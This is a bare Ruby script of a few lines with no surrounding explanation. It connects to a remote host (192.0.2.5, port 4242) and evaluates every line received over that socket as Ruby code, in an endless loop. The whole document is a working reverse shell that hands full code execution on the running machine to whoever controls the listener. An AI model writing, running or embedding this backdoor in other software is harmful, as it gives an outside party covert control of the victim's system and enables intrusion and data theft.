require 'socket'
TCPSocket.open('192.0.2.5',4242) do |c|
  loop { eval(c.gets, binding) }
end
